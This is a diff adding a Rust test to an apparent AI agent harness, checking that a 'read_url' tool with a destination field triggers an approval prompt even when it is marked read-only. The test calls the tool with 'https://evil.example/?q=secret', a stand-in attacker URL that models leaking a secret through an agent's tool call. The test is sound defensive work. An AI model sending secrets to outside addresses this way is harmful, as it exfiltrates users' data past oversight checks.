@@ -195,6 +195,29 @@ fn what_comes_with_a_message_is_from_outside_unless_the_page_vouches_for_it() {
     assert_eq!(error.message, "sendMessage needs \"trusted\" to be true or false");
 }
 
+/// The name of a tool says that it only reads. Where it reads, an address that is made of a secret can be.
+#[test]
+fn a_tool_with_a_destination_is_asked_about_also_where_it_only_reads() {
+    for (more, asks) in [
+        (json!({}), false),
+        (json!({ "destination": ["to"] }), true),
+        (json!({ "destination": ["to"], "readOnly": true }), true),
+        (json!({ "destination": ["to"], "openWorld": false }), false),
+    ] {
+        let mut desk = desk();
+        let mut tool = json!({
+            "name": "read_url", "description": "d", "inputSchema": { "properties": { "to": {}, "text": {} } },
+            "execute": { "$fn": 70 },
+        });
+        tool.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        desk.must("tools.register", tool);
+        desk.must("sendMessage", json!({ "text": "look", "context": "c" }));
+        desk.says("seen");
+        let asked = origins(tries(&mut desk, "default", "read_url", "https://evil.example/?q=secret"));
+        assert_eq!(asked, if asks { json!(["context"]) } else { Value::Null }, "{more}");
+    }
+}
+
 #[test]
 fn what_a_provider_has_looked_up_is_from_outside() {
     let raw = |kind: &str| Block::Raw(json!({ "type": kind, "content": [] }).to_string());
